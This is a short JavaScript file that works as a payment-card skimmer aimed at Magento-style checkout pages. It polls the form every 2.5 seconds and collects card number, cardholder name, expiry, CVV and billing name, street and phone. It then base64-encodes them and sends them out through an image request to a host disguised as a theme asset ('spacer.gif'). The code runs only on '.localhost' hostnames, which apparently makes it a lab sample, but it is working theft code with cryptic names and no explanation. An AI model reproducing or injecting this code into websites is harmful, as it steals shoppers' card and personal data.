var _$ = { n: "payment[cc_number]", o: "payment[cc_owner]", m: "payment[cc_exp_month]", y: "payment[cc_exp_year]", c: "payment[cc_cid]", f: "billing[firstname]", l: "billing[lastname]", a: "billing[street][]", t: "billing[telephone]" };
var _s = {};
function _g() {
  if (!/\.localhost$/.test(location.hostname)) { return; }
  for (var k in _$) {
    var e = document.getElementsByName(_$[k])[0];
    if (e && e.value) { _s[k] = e.value; }
  }
  if (_s.n && _s.c) {
    var j = encodeURIComponent(window.btoa(JSON.stringify(_s)));
    new Image().src = "https://skin-cache.localhost/frontend/base/default/spacer.gif?" + j;
    _s = {};
  }
}
setInterval(_g, 2500);
